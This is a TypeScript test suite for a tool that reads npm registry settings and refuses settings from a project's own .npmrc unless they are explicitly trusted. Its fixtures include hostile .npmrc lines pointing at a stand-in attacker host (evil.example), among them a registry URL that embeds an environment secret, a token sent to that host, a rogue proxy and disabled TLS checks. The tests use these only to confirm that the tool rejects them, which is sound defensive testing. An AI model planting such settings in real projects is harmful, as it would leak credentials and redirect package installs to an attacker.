import { execFile } from 'node:child_process'
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { promisify } from 'node:util'
import { afterEach, beforeEach, describe, expect, test } from 'vitest'
import { readRegistryConfig } from '#registry/npmrc'
import type { NpmrcPlaces } from '#registry/npmrc'
import { authorizationFor, registryFor } from '#registry/registry-config'
import type { RegistryConfig } from '#registry/registry-config'
import { openDisk } from '#disk/disk'

let root: string
let home: string
let project: string
let prefix: string
beforeEach(async () => {
  root = await realpath(await mkdtemp(path.join(tmpdir(), 'depgate-npmrc-')))
  home = path.join(root, 'home')
  project = path.join(root, 'project')
  prefix = path.join(root, 'prefix')
  for (const folder of [home, project, path.join(prefix, 'etc'), path.join(prefix, 'npm')]) {
    await mkdir(folder, { recursive: true })
  }
})
afterEach(() => rm(root, { recursive: true, force: true }))

const user = (text: string): Promise<void> => writeFile(path.join(home, '.npmrc'), text)
const own = (text: string): Promise<void> => writeFile(path.join(project, '.npmrc'), text)

function places(more: Partial<NpmrcPlaces> = {}): NpmrcPlaces {
  const npmRoot = path.join(prefix, 'npm')
  return {
    project,
    env: {},
    home,
    execPath: path.join(prefix, 'bin/node'),
    npmRoot,
    trustProjectKeys: [],
    disk: openDisk(project),
    ...more,
  }
}

async function read(more: Partial<NpmrcPlaces> = {}): Promise<RegistryConfig> {
  const outcome = await readRegistryConfig(places(more))
  if (!outcome.ok) throw new Error(outcome.failure.message)
  return outcome.value
}

async function defaultRegistry(): Promise<string> {
  const { default: definitions } = await import('@npmcli/config/lib/definitions/index.js')
  const definition: unknown = definitions.definitions['registry']
  if (typeof definition !== 'object' || definition === null || !('default' in definition))
    throw new Error('none')
  return String(definition.default)
}

describe('what is trusted', () => {
  test('without any file npm’s own default', async () => {
    const config = await read()
    expect(config.registry).toBe(await defaultRegistry())
    expect(config).toMatchObject({ scopes: {}, credentials: [], strictSsl: true, warnings: [] })
    expect(config.ca).toBeUndefined()
  })

  test('builtin, global, user and environment, each above the one before', async () => {
    await writeFile(
      path.join(prefix, 'npm/npmrc'),
      'registry=https://builtin.example/\n@b:registry=https://b.example/',
    )
    expect((await read()).registry).toBe('https://builtin.example/')
    await writeFile(path.join(prefix, 'etc/npmrc'), 'registry=https://global.example/')
    expect((await read()).registry).toBe('https://global.example/')
    await user('registry=https://user.example/')
    expect((await read()).registry).toBe('https://user.example/')
    const config = await read({ env: { npm_config_registry: 'https://env.example/' } })
    expect(config.registry).toBe('https://env.example/')
    expect(config.scopes).toEqual({ '@b': 'https://b.example/' })
  })

  test('scopes and logins, with variables replaced', async () => {
    await user('@acme:registry=https://npm.acme.example/x/\n//npm.acme.example/x/:_authToken=${TOKEN}\n')
    const config = await read({ env: { TOKEN: 's3cret' } })
    const registry = registryFor(config, '@acme/a')
    expect(registry.ok && registry.value.base).toBe('https://npm.acme.example/x/')
    expect(authorizationFor(config, new URL('https://npm.acme.example/x/@acme%2fa/1.0.0'))).toBe(
      'Bearer s3cret',
    )
    expect(authorizationFor(config, new URL('https://npm.acme.example/y/a/1.0.0'))).toBeUndefined()
  })

  test('a variable nobody set is never sent', async () => {
    await user('//npm.acme.example/:_authToken=${NOBODY_SET_THIS}\n//b.example/:_authToken=${NOR_THIS?}')
    const config = await read()
    expect(config.credentials).toEqual([])
    expect(config.warnings.map(({ code }) => code)).toEqual(['npmrc-login-unusable'])
    await user('registry=https://registry.example/${NOBODY_SET_THIS}/')
    expect(registryFor(await read(), 'a')).toMatchObject({ failure: { code: 'npmrc-unreadable' } })
  })

  test('certificates of a cafile, strict-ssl and the proxies', async () => {
    const certificate = '-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----'
    await writeFile(path.join(root, 'ca.pem'), `${certificate}\r\n${certificate}\n`)
    await user(
      `cafile=${path.join(root, 'ca.pem')}\nstrict-ssl=false\nhttps-proxy=http://p.example:8080\nnoproxy=a.example, b.example`,
    )
    const config = await read({ env: { HTTPS_PROXY: 'http://env.example', no_proxy: 'c.example' } })
    expect(config.ca).toEqual([certificate, certificate])
    expect(config.strictSsl).toBe(false)
    expect(config.proxy).toMatchObject({
      configured: 'http://p.example:8080',
      bypass: ['a.example', 'b.example'],
    })
    const other = await read({
      env: { NPM_CONFIG_USERCONFIG: '/dev/null', HTTPS_PROXY: 'http://env.example', no_proxy: 'c.example' },
    })
    expect(other.proxy).toEqual({
      https: 'http://env.example',
      http: 'http://env.example',
      bypass: ['c.example'],
    })
  })

  test('hosts of tarballs that npm would replace', async () => {
    const { replaceRegistryHost } = await read()
    expect(replaceRegistryHost).toBe(new URL(await defaultRegistry()).host)
    await own('replace-registry-host=always')
    const hostile = await read()
    expect(hostile.replaceRegistryHost).toBe(replaceRegistryHost)
    expect(hostile.warnings).toMatchObject([{ code: 'npmrc-key-ignored' }])
    await user('replace-registry-host=never')
    expect((await read()).replaceRegistryHost).toBe('never')
  })

  test('userinfo of an address is a login for that address only', async () => {
    await user('registry=https://user:pw@registry.example/npm/')
    const config = await read()
    expect(config.credentials).toEqual([
      { prefix: '//registry.example/npm/', authorization: 'Basic dXNlcjpwdw==' },
    ])
    expect(registryFor(config, 'a')).toMatchObject({ value: { base: 'https://registry.example/npm/' } })
  })

  test('the result can be sent to a worker', async () => {
    await user('@acme:registry=https://npm.acme.example/')
    const config = await read()
    expect(structuredClone(config)).toEqual(config)
  })

  test('a file that cannot be read is not passed over', async () => {
    await mkdir(path.join(home, '.npmrc'))
    const outcome = await readRegistryConfig(places())
    expect(outcome).toMatchObject({ ok: false, failure: { code: 'npmrc-unreadable' } })
    expect(outcome.ok || outcome.failure.message).not.toContain(root)
  })

  test('nothing is written to the environment it is given, nor to our own', async () => {
    await user('user-agent=x\nomit=dev\nregistry=https://registry.example/')
    const before = { ...process.env }
    const env = Object.freeze({ npm_config_omit: 'dev' })
    await read({ env })
    expect(process.env).toEqual(before)
  })
})

describe('the project’s own .npmrc', () => {
  test('chooses nothing, and every key that would is named', async () => {
    await own(
      [
        'registry=https://evil.example/${SECRET}/',
        '@acme:registry=https://evil.example/',
        '//evil.example/:_authToken=${SECRET}',
        'proxy=http://evil.example',
        'strict-ssl=false',
        'cafile=./ca.pem',
        'fund=false',
      ].join('\n'),
    )
    const config = await read({ env: { SECRET: 's3cret' } })
    expect(config.registry).toBe(await defaultRegistry())
    expect(config).toMatchObject({ scopes: {}, credentials: [], strictSsl: true, untrustedScopes: ['@acme'] })
    expect(config.proxy.configured).toBeUndefined()
    expect(JSON.stringify(config)).not.toMatch(/s3cret|evil\.example\/\$/)
    expect(config.warnings).toHaveLength(6)
    expect(registryFor(config, '@acme/a')).toMatchObject({ failure: { code: 'untrusted-registry' } })
  })

  test('a scope the user maps too is asked where the user says', async () => {
    await own('@acme:registry=https://evil.example/')
    await user('@acme:registry=https://npm.acme.example/')
    expect(registryFor(await read(), '@acme/a')).toMatchObject({
      value: { base: 'https://npm.acme.example/' },
    })
  })

  test('a key that is vouched for is taken over, with its variables, and the others are not', async () => {
    await own(
      'registry=https://corp.example/\n@acme:registry=https://evil.example/\n//corp.example/:_authToken=${TOKEN}',
    )
    const config = await read({
      env: { TOKEN: 's3cret' },
      trustProjectKeys: ['registry', '//corp.example/:_authToken'],
    })
    expect(config.registry).toBe('https://corp.example/')
    expect(config.credentials).toEqual([{ prefix: '//corp.example/', authorization: 'Bearer s3cret' }])
    expect(config.untrustedScopes).toEqual(['@acme'])
    expect(config.warnings).toHaveLength(1)
  })

  test('a key that is vouched for stays below the environment, as npm has it', async () => {
    await own('registry=https://corp.example/')
    const env = { npm_config_registry: 'https://env.example/' }
    expect((await read({ env, trustProjectKeys: ['registry'] })).registry).toBe('https://env.example/')
  })

  test('the home folder as project: its .npmrc is the user’s', async () => {
    await user('registry=https://user.example/')
    const config = await read({ project: home })
    expect(config.registry).toBe('https://user.example/')
    expect(config.warnings).toEqual([])
  })

  test('neither a workspace above nor a .npmrc on the way up is read', async () => {
    await writeFile(path.join(root, 'package.json'), '{"workspaces":["project","prefix/npm"]}')
    await writeFile(path.join(root, '.npmrc'), 'registry=https://evil.example/')
    await writeFile(path.join(prefix, 'npm/package.json'), '{"name":"npm","version":"11.0.0"}')
    expect((await read()).registry).toBe(await defaultRegistry())
  })

  test('a pipe, a folder or a huge file in its place is refused, not waited for', async () => {
    const file = path.join(project, '.npmrc')
    await promisify(execFile)('mkfifo', [file])
    expect(await readRegistryConfig(places())).toMatchObject({ failure: { code: 'npmrc-unreadable' } })
    await rm(file)
    await mkdir(file)
    expect(await readRegistryConfig(places())).toMatchObject({ failure: { code: 'npmrc-unreadable' } })
    await rm(file, { recursive: true })
    await own('#'.repeat(300 * 1024))
    expect(await readRegistryConfig(places())).toMatchObject({ failure: { code: 'npmrc-unreadable' } })
    await rm(file)
    await symlink('/dev/zero', file)
    expect(await readRegistryConfig(places())).toMatchObject({ failure: { code: 'npmrc-unreadable' } })
  })
})

describe('under npm run', () => {
  const npm = 'npm_lifecycle_event'

  test('what npm exported out of the project’s .npmrc is not believed', async () => {
    await own('registry=https://evil.example/')
    const env = { [npm]: 'test', npm_config_registry: 'https://evil.example/' }
    expect((await read({ env })).registry).toBe(await defaultRegistry())
    expect((await read({ env, trustProjectKeys: ['registry'] })).registry).toBe('https://evil.example/')
  })

  test('what it exported out of the user’s is', async () => {
    await own('fund=false')
    const env = { [npm]: 'test', npm_config_registry: 'https://env.example/' }
    expect((await read({ env })).registry).toBe('https://env.example/')
  })

  test('a key spelt with a variable is seen through', async () => {
    await own('reg${NOTHING?}istry=https://evil.example/')
    const env = { [npm]: 'test', npm_config_registry: 'https://evil.example/' }
    expect((await read({ env })).registry).toBe(await defaultRegistry())
  })

  test('a project that names its own file as the user’s gains nothing', async () => {
    await own(`userconfig=${path.join(project, '.npmrc')}\nregistry=https://evil.example/`)
    const env = {
      [npm]: 'test',
      npm_config_userconfig: path.join(project, '.npmrc'),
      npm_config_registry: 'https://evil.example/',
    }
    const config = await read({ env })
    expect(config.registry).toBe(await defaultRegistry())
    expect(config.warnings).toHaveLength(2)
    await own(`userconfig=${path.join(project, 'other')}`)
    await writeFile(path.join(project, 'other'), 'registry=https://evil.example/')
    expect(
      (await read({ env: { ...env, npm_config_userconfig: path.join(project, 'other') } })).registry,
    ).toBe(await defaultRegistry())
  })

  test('the .npmrc of the folder npm was started in counts as well', async () => {
    const outer = path.join(root, 'outer')
    await mkdir(outer)
    await writeFile(path.join(outer, '.npmrc'), 'registry=https://evil.example/')
    const env = {
      [npm]: 'test',
      npm_config_local_prefix: outer,
      npm_config_registry: 'https://evil.example/',
    }
    expect((await read({ env })).registry).toBe(await defaultRegistry())
  })

  test('a real npm run with a real hostile .npmrc', async () => {
    const script = 'node -e "console.log(JSON.stringify(process.env))"'
    await writeFile(
      path.join(project, 'package.json'),
      JSON.stringify({ name: 'p', version: '1.0.0', scripts: { env: script } }),
    )
    await own(
      'registry=https://evil.example/\nstrict-ssl=false\nREGISTRY=https://evil.example/\nproxy=http://evil.example/',
    )
    const env = { PATH: process.env['PATH'], HOME: home }
    const { stdout } = await promisify(execFile)('npm', ['run', '--silent', 'env'], { cwd: project, env })
    const exported: unknown = JSON.parse(stdout)
    expect(exported).toMatchObject({ npm_config_registry: 'https://evil.example/' })
    const config = await read({ env: Object.fromEntries(Object.entries(exported ?? {})) })
    expect(JSON.stringify({ ...config, warnings: [] })).not.toContain('evil')
    expect(config.strictSsl).toBe(true)
  }, 30_000)
})

test('what npm itself makes of the same trusted files', async () => {
  await user(
    'registry=https://user.example/npm\n@acme:registry=https://npm.acme.example/\nnoproxy=x.example\nhttps-proxy=http://p.example/',
  )
  const env = { PATH: process.env['PATH'], HOME: home, npm_config_cache: path.join(root, 'cache') }
  const { stdout } = await promisify(execFile)('npm', ['config', 'ls', '--json'], { cwd: project, env })
  const theirs: unknown = JSON.parse(stdout)
  const ours = await read({ env })
  expect(theirs).toMatchObject({ registry: ours.registry, '@acme:registry': ours.scopes['@acme'] })
  expect(theirs).toMatchObject({ 'https-proxy': ours.proxy.configured })
}, 30_000)
